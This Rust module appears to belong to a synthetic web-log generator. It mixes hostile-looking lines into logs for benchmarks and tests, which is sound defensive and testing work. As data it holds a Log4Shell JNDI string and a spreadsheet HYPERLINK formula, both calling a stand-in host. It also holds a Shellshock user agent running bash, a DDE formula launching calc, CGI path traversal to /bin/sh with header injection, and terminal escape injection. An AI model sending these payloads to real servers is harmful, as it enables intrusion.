//! Lines as scanners, attackers and broken disks leave them, strewn among the others.
//!
//! They are there so that benches and tests meet what real logs hold: bytes that are no text, terminal
//! commands, spreadsheet formulas, handshakes of other protocols, targets of many kilobytes, answers
//! that pretend to be others, lines cut or lost. None is answered 403, so the labels of denials stay
//! right. They draw from a sequence of their own: a log without them has the same bytes as ever.

use super::{Random, population};
use std::net::Ipv4Addr;

/// What happened to a line on its way to the disk.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Damage {
    /// Nothing.
    None,
    /// Only its beginning was written.
    Cut,
    /// Something else stands in its place: the target.
    Replaced,
}

/// A hostile line, before it is written in a format.
#[derive(Debug, Clone)]
pub(super) struct Visit {
    pub(super) ip: Ipv4Addr,
    /// What stands between the quotes of the request.
    pub(super) target: Vec<u8>,
    pub(super) user_agent: Vec<u8>,
    pub(super) status: u16,
    pub(super) damage: Damage,
}

/// Hostile lines, one now and then.
pub(super) struct Hostile {
    random: Random,
    share: f64,
}

/// Kinds of lines, each as often as the next.
const KINDS: usize = 10;

/// Longest target, in bytes: what servers take by default.
const LONGEST: usize = 8 << 10;

impl Hostile {
    pub(super) fn new(seed: u64, share: f64) -> Hostile {
        Hostile {
            random: Random::new(seed ^ 0x0bad_0bad),
            share,
        }
    }

    /// The line that follows now, if one does.
    pub(super) fn next(&mut self) -> Option<Visit> {
        if self.share <= 0.0 || !self.random.happens(self.share) {
            return None;
        }
        let kind = self.random.below(KINDS);
        Some(self.visit(kind))
    }

    fn visit(&mut self, kind: usize) -> Visit {
        let random = &mut self.random;
        let plain = Visit {
            ip: population::cloud_ip(random),
            target: b"GET / HTTP/1.1".to_vec(),
            user_agent: b"-".to_vec(),
            status: 200,
            damage: Damage::None,
        };
        let request = |target: &[u8]| [b"GET ", target, b" HTTP/1.1"].concat();
        match kind {
            // The beginning of TLS, and of remote desktop, as nginx escapes them.
            0 => Visit {
                target: br"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03".to_vec(),
                status: 400,
                ..plain
            },
            1 => Visit {
                target: b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr"
                    .to_vec(),
                status: 400,
                ..plain
            },
            2 => Visit {
                user_agent: b"Mozilla/5.0 \xff\xfe\xc3\x28 \xed\xa0\x80\x00 (compatible)".to_vec(),
                ..plain
            },
            3 => Visit {
                target: request("/\x1b]0;owned\x07\x1b[2J\u{202e}gpj.php".as_bytes()),
                user_agent: b"\x1b[31mcurl\x1b[0m".to_vec(),
                status: 404,
                ..plain
            },
            4 => Visit {
                target: request(b"/=cmd|'/C calc'!A0"),
                user_agent: br#"=HYPERLINK(\"http://203.0.113.9/\",\"open\")"#.to_vec(),
                status: 404,
                ..plain
            },
            5 => Visit {
                user_agent: br#"${jndi:ldap://203.0.113.9/a}\" 403 0 \"-\" \"x"#.to_vec(),
                ..plain
            },
            6 => {
                let length = 1 + random.below(LONGEST);
                let mut target = b"/index.php?s=".to_vec();
                target.extend(std::iter::repeat_n(*random.pick(b"A./%"), length));
                Visit {
                    target: request(&target),
                    status: 414,
                    ..plain
                }
            }
            7 => Visit {
                target: request(b"/cgi-bin/.%2e/.%2e/.%2e/bin/sh%00%0d%0aX-Status:%20403"),
                user_agent: b"() { :; }; /bin/bash -c id".to_vec(),
                status: 400,
                ..plain
            },
            8 => Visit {
                damage: Damage::Cut,
                ..plain
            },
            // A block that was never written, as after a crash.
            _ => Visit {
                target: vec![0; 1 + random.below(300)],
                damage: Damage::Replaced,
                ..plain
            },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_line_is_a_denial_and_each_stays_one_line() {
        let mut hostile = Hostile::new(1, 1.0);
        for kind in 0..KINDS * 20 {
            let visit = hostile.visit(kind % KINDS);
            assert_ne!(visit.status, 403);
            assert!(!visit.target.contains(&b'\n') && !visit.user_agent.contains(&b'\n'));
            assert!(!visit.target.is_empty() && visit.target.len() <= LONGEST + 64);
        }
    }

    #[test]
    fn the_share_is_kept_and_may_be_none() {
        let mut none = Hostile::new(1, 0.0);
        assert!((0..1000).all(|_| none.next().is_none()));
        let mut some = Hostile::new(1, 0.1);
        let count = (0..10_000).filter(|_| some.next().is_some()).count();
        assert!((800..1200).contains(&count), "{count}");
    }
}
